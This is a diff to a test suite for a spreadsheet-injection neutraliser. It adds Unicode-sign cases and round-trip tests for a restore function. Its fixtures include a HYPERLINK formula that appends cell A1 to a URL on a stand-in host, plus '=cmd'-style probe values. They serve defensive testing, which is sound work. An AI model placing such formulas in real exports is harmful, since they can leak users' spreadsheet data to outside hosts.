@@ -1,4 +1,4 @@
-import { neutraliseCell } from './spreadsheet-safe';
+import { neutraliseCell, restoreNeutralised } from './spreadsheet-safe';
 
 test.each([
   ['=HYPERLINK("http://x.example/?"&A1,"x")', `'=HYPERLINK("http://x.example/?"&A1,"x")`],
@@ -49,3 +49,26 @@ test.each([
 ])('plain numbers and ordinary text stay as they are: %j', (cell) => {
   expect(neutraliseCell(cell)).toBe(cell);
 });
+
+test.each([
+  ['\u22121+1', "'\u22121+1"],
+  ['\uFE63cmd', "'\uFE63cmd"],
+  ['\uFE62cmd', "'\uFE62cmd"],
+  ['\uFE66cmd', "'\uFE66cmd"],
+])('the minus sign and the small signs start a formula too: %j', (cell, expected) => {
+  expect(neutraliseCell(cell)).toBe(expected);
+});
+
+test.each(['=1+1', '@SUM(A1)', ' =cmd', '－', '\u2212x', '-2+3'])(
+  'a neutralised cell comes back as it was: %j',
+  (cell) => {
+    expect(restoreNeutralised(neutraliseCell(cell))).toBe(cell);
+  },
+);
+
+test.each(["'text", "'123", "''=1", 'plain', "'"])(
+  'text whose quote neutraliseCell would not have added stays as it is: %j',
+  (cell) => {
+    expect(restoreNeutralised(cell)).toBe(cell);
+  },
+);
